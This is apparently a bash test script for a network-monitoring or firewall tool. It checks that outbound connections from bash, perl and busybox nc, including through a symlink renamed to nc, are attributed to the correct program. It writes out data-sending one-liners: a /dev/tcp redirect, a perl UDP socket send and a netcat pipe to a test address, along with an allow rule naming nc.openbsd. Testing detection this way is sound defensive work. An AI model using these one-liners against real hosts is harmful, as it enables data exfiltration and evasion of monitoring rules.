# SPDX-License-Identifier: GPL-2.0-or-later
# shellcheck shell=bash source=/dev/null disable=SC2086,SC2016,SC2154,SC2034
# L15: code on the command line and on standard input, applets of busybox: rules for other
# programs and other names are not for them.
. /snitch/leak/lib/leak.sh

cp /bin/bash $DIR/bash
cp "$(readlink -f /usr/bin/perl)" $DIR/perl
leak_begin "allow /usr/bin/nc.openbsd any"
talk="exec 3<>/dev/tcp/$F4/80; echo leak >&3; :"
way "bash -c" $DIR/bash tcp 80 $DIR/bash -c "$talk"
t_seen "what it runs is shown" "^OWNER .*exe=$DIR/bash cmd=$DIR/bash,-c,exec"
way "bash < file" $DIR/bash tcp 80 bash -c "echo '$talk' | $DIR/bash"
perl="use Socket; socket(S, PF_INET, SOCK_DGRAM, 0); send(S, q(leak), 0, sockaddr_in(80, inet_aton(q($F4))));"
way "perl -e" $DIR/perl udp 80 $DIR/perl -e "$perl"
way "perl < file" $DIR/perl udp 80 bash -c "echo '$perl' | $DIR/perl"
way "busybox nc is not nc" '(/usr)?/bin/busybox' tcp 81 bash -c "echo leak | busybox nc $F4 81"
ln -s "$(command -v busybox)" $DIR/nc
way "nor is it by a link of that name" '(/usr)?/bin/busybox' tcp 81 bash -c "echo leak | $DIR/nc $F4 81"
leak_done
